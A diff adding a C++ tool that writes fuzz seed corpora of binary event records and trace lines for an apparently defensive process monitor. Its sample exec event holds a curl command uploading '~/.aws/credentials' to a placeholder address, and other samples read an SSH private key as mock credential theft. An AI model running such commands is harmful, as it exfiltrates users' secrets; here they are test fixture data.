@@ -1,0 +1,194 @@
+// Writes the seed corpus of the fuzz harnesses. Built by meson, run by hand
+// when the corpus needs regenerating (the output is checked in):
+//
+//   build/test/fuzz/make_corpus test/fuzz/corpus
+//
+// corpus/decode/: binary ring-buffer records: a valid one of every kind, cut
+// ones, a wrong version, unknown kinds, bad fields, garbage.
+// corpus/trace/:  trace texts (the first byte picks the reader's chunk size):
+// valid lines of every kind, and broken ones.
+
+#include <cstdio>
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <string>
+#include <string_view>
+#include <vector>
+
+#include "barbwire/decode.hpp"
+#include "barbwire/trace.hpp"
+
+namespace fs = std::filesystem;
+using namespace barbwire;
+
+namespace {
+
+bool write_file(const fs::path& path, const void* data, std::size_t size) {
+    std::ofstream out(path, std::ios::binary | std::ios::trunc);
+    out.write(static_cast<const char*>(data), static_cast<std::streamsize>(size));
+    out.close();
+    if (!out) {
+        std::fprintf(stderr, "make_corpus: cannot write %s\n", path.c_str());
+        return false;
+    }
+    return true;
+}
+
+bool write_bytes(const fs::path& dir, const std::string& name, const std::vector<std::byte>& b) {
+    return write_file(dir / name, b.data(), b.size());
+}
+
+bool write_text(const fs::path& dir, const std::string& name, char chunk, std::string_view text) {
+    std::string data(1, chunk);
+    data += text;
+    return write_file(dir / name, data.data(), data.size());
+}
+
+event base(event_body body) {
+    event e;
+    e.ts = nanoseconds{1'000'000'000};
+    e.pid = 100;
+    e.tid = 101;
+    e.body = std::move(body);
+    return e;
+}
+
+template <class Record>
+std::vector<std::byte> patched(std::vector<std::byte> b, void (*patch)(Record&)) {
+    Record r;
+    std::memcpy(&r, b.data(), sizeof(r));
+    patch(r);
+    std::memcpy(b.data(), &r, sizeof(r));
+    return b;
+}
+
+} // namespace
+
+int main(int argc, char** argv) {
+    if (argc != 2) {
+        std::fprintf(stderr, "usage: %s CORPUS_DIR (writes CORPUS_DIR/decode and CORPUS_DIR/trace)\n", argv[0]);
+        return 2;
+    }
+    const fs::path root = argv[1];
+    const fs::path dec = root / "decode", tr = root / "trace";
+    std::error_code ec;
+    fs::create_directories(dec, ec);
+    fs::create_directories(tr, ec);
+    if (ec) {
+        std::fprintf(stderr, "make_corpus: cannot create %s: %s\n", root.c_str(), ec.message().c_str());
+        return 1;
+    }
+
+    exec_event x;
+    x.ppid = 1;
+    x.uid = 1000;
+    x.sid = 50;
+    x.pgid = 60;
+    x.exe_dev = 0x801;
+    x.exe_ino = 1234;
+    x.comm = "curl";
+    x.exe = "/usr/bin/curl";
+    x.argv = {"curl", "-T", "/home/a/.aws/credentials", "https://203.0.113.7/"};
+    open_event o;
+    o.path = "/home/a/.ssh/id_rsa";
+    o.dev = 0x803;
+    o.ino = 77;
+    o.uid = 1000;
+    net_event n4;
+    n4.addr = *ip_address::parse("203.0.113.7");
+    n4.port = 443;
+    net_event n6;
+    n6.op = net_op::send;
+    n6.protocol = ip_proto::udp;
+    n6.addr = *ip_address::parse("2001:db8::53");
+    n6.port = 53;
+
+    const std::vector<std::pair<std::string, event>> valid = {
+        {"exec", base(x)},
+        {"fork", base(fork_event{.child_pid = 200, .child_tid = 200})},
+        {"fork_thread", base(fork_event{.child_pid = 100, .child_tid = 102})},
+        {"exit", base(exit_event{.exit_code = 1})},
+        {"open", base(o)},
+        {"connect_v4", base(n4)},
+        {"send_v6", base(n6)},
+    };
+    bool ok = true;
+    for (const auto& [name, e] : valid) ok &= write_bytes(dec, "valid_" + name, encode(e));
+
+    // strings exactly filling their fields, and cut ones
+    exec_event full;
+    full.comm = std::string(BW_COMM_LEN, 'c');
+    full.exe = std::string(BW_PATH_MAX, 'e');
+    full.argv = {std::string(100, 'a'), "", std::string(BW_ARGV_MAX - 102, 'b')};
+    ok &= write_bytes(dec, "exec_full_fields", encode(base(full)));
+    full.argv.push_back("cut");
+    ok &= write_bytes(dec, "exec_truncated_flag", encode(base(full)));
+
+    const auto open_bytes = encode(base(o));
+    const auto exec_bytes = encode(base(x));
+    const auto net_bytes = encode(base(n4));
+    ok &= write_bytes(dec, "short_header", {open_bytes.begin(), open_bytes.begin() + 10});
+    ok &= write_bytes(dec, "cut_open", {open_bytes.begin(), open_bytes.begin() + 100});
+    auto with_size = [](std::vector<std::byte> b, std::size_t n) {
+        b.resize(n);
+        const auto sz = static_cast<std::uint32_t>(n);
+        std::memcpy(b.data() + offsetof(bw_event_header, size), &sz, sizeof(sz));
+        return b;
+    };
+    ok &= write_bytes(dec, "short_exec_consistent_size", with_size(exec_bytes, 64));
+    ok &= write_bytes(dec, "oversized_net", with_size(net_bytes, 64));
+    ok &= write_bytes(dec, "wrong_version",
+                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.version = 2; }));
+    ok &= write_bytes(dec, "unknown_kind", patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.kind = 6; }));
+    ok &= write_bytes(dec, "size_field_wrong",
+                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.hdr.size = 4096; }));
+    ok &= write_bytes(dec, "bad_family", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.family = 1; }));
+    ok &= write_bytes(dec, "bad_op", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.op = 9; }));
+    ok &= write_bytes(dec, "bad_protocol", patched<bw_net_event>(net_bytes, [](bw_net_event& r) { r.protocol = 1; }));
+    ok &= write_bytes(dec, "bad_path_size",
+                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) { r.path_size = 600; }));
+    ok &= write_bytes(dec, "bad_argv_size",
+                      patched<bw_exec_event>(exec_bytes, [](bw_exec_event& r) { r.argv_size = 257; }));
+    ok &= write_bytes(dec, "stale_bytes",
+                      patched<bw_open_event>(open_bytes, [](bw_open_event& r) {
+                          std::memset(r.path + 20, 'Z', 100); // after the NUL, within the field
+                          r.hdr.flags = 0xFF;
+                          r._pad0 = 0xFFFF;
+                      }));
+    std::vector<std::byte> garbage(57);
+    for (std::size_t i = 0; i < garbage.size(); ++i) garbage[i] = static_cast<std::byte>(i * 37 + 11);
+    ok &= write_bytes(dec, "garbage", garbage);
+
+    // trace texts
+    std::string lines;
+    for (const auto& [name, e] : valid) {
+        const std::string line = format_trace_line(e);
+        ok &= write_text(tr, "valid_" + name, 64, line + "\n");
+        lines += line + "\n";
+    }
+    ok &= write_text(tr, "all_kinds_chunk_7", 7, lines);
+    ok &= write_text(tr, "hand_written", 3,
+                     "# credential theft, by hand\n"
+                     "{\"ts\": \"1s\", \"kind\": \"exec\", \"pid\": 100, \"comm\": \"cat\", \"argv\": [\"cat\", \"id_rsa\"]}\n"
+                     "\n"
+                     "{\"ts\": \"1.5s\", \"kind\": \"open\", \"pid\": 100, \"path\": \"/home/a/.ssh/id_rsa\"}\r\n"
+                     "{\"ts\": \"250us\", \"kind\": \"fork\", \"pid\": 100, \"child_pid\": 101}\n"
+                     "{\"ts\": 2000000000, \"kind\": \"connect\", \"pid\": 100, \"addr\": \"::1\", \"port\": 22, \"proto\": \"udp\"}");
+    ok &= write_text(tr, "hex_strings", 16,
+                     "{\"ts\": 1, \"kind\": \"open\", \"pid\": 1, \"path\": {\"hex\": \"2fff00\"}}\n");
+    ok &= write_text(tr, "broken_lines", 5,
+                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 1}\n"
+                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": \n"
+                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 1, \"typo\": 2}\n"
+                     "{\"ts\": \"1.5ns\", \"kind\": \"exit\", \"pid\": 1}\n"
+                     "{\"ts\": 1, \"kind\": \"connect\", \"pid\": 1, \"addr\": \"1.2.3\", \"port\": 70000}\n"
+                     "[1,2,3]\n"
+                     "{\"ts\": 1, \"kind\": \"exit\", \"pid\": 4294967296}\n"
+                     "{\"ts\": 2, \"kind\": \"exit\", \"pid\": 2}");
+    std::string binary = "\x01\xff\xfe\x00{\"\x80\"}\n\xc0\xaf\n";
+    binary.push_back('\0');
+    ok &= write_text(tr, "binary", 1, binary);
+    ok &= write_text(tr, "deep_nesting", 64, std::string(2000, '[') + "\n{\"a\":" + std::string(2000, '{') + "\n");
+    return ok ? 0 : 1;
+}
